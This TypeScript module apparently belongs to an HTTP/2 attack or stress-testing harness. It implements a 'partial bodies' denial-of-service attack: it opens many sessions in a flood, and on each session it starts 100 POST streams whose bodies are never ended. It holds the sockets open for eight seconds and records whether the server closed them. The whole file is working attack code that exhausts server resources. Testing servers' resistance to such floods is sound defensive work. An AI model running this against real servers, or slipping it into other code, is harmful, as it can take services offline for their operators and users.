/** A hundred requests a connection whose bodies begin and don't end. */
import { field, flags, frame, frames, requestFields } from '../../../support/http2-frames.ts'
import type { Attack } from '../attack.ts'
import { untilClosed } from '../send.ts'
import { flood } from '../tally.ts'
import { authorityOf, openSession } from './sessions.ts'

const streams = 100
const stayMs = 8_000

export const partialBodies: Attack = {
  name: 'HTTP/2 bodies that do not end',
  prepare: (target) => (signal) =>
    flood({ atOnce: 60, pauseMs: 500, signal }, async (index) => {
      const socket = await openSession(target, index, signal)
      const fields = Buffer.concat([
        requestFields({ method: 'POST', authority: authorityOf(target, index), path: '/' }),
        field('content-type', 'application/json'),
      ])
      const posts = Array.from({ length: streams }, (_, at) => {
        const stream = 2 * at + 1
        const begun = frame(frames.headers, flags.endHeaders, stream, fields)
        return Buffer.concat([begun, frame(frames.data, 0, stream, Buffer.alloc(16_000, ' '))])
      })
      socket.resume().write(Buffer.concat(posts))
      await untilClosed(socket, stayMs, signal)
      const outcome = socket.destroyed ? 'ended' : 'borne'
      socket.destroy()
      return outcome
    }),
}
